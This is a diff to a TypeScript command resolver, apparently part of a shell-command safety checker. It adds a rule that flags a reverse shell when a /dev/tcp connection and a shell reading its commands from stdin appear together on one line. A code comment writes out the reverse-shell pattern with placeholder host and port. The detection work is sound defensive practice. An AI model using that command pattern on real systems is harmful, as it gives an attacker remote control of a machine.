@@ -57,6 +57,10 @@ export function resolveLine(source: string, cwd?: string): Resolution {
   const r = new Resolver(cwd);
   if (CONTROL_CHARS.test(source)) r.lineFacts.push({ fact: 'control-chars', text: JSON.stringify(source).slice(1, -1) });
   r.parseAndWalk(source, { depth: 0, via: [], source });
+  // A connection opened on /dev/tcp earlier in the line (`exec 5<>/dev/tcp/h/p`) and a shell
+  // that reads its commands from stdin (`cat <&5 | bash >&5`): file descriptors are not
+  // followed, so the pair is taken for what it almost always is, a reverse shell.
+  if (r.all.some((c) => c.facts.has('dev-tcp'))) for (const c of r.all) if (c.readsProgramFromStdin && c.stdinText === undefined) c.facts.add('reverse-shell');
   return { commands: r.all, lineFacts: r.lineFacts };
 }
 
